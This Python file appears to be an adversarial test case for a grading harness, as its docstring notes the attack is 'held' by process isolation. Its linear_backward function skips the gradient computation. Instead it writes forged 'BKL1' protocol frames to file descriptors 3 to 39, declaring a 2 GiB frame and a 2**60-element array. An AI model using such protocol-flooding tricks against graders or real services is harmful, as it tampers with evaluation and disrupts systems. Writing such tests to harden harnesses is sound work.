"""
Announces a frame of 2 GiB, and an array of 2**60 elements in a small one.

Earns: 8
Held by: process, isolated
"""

import os
import struct


def write(data):
    for descriptor in range(3, 40):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def frame(kind, number, payload):
    return struct.pack("<4sBII", b"BKL1", kind, number, len(payload)) + payload


def linear_forward(x, w, b):
    return x @ w + b, (x, w)


def linear_backward(dout, cache):
    write(frame(16, 3, b"a" + struct.pack("<BBQQ", 0, 2, 1 << 30, 1 << 30)))
    write(struct.pack("<4sBII", b"BKL1", 16, 4, 0x7FFFFFFF))
    return None
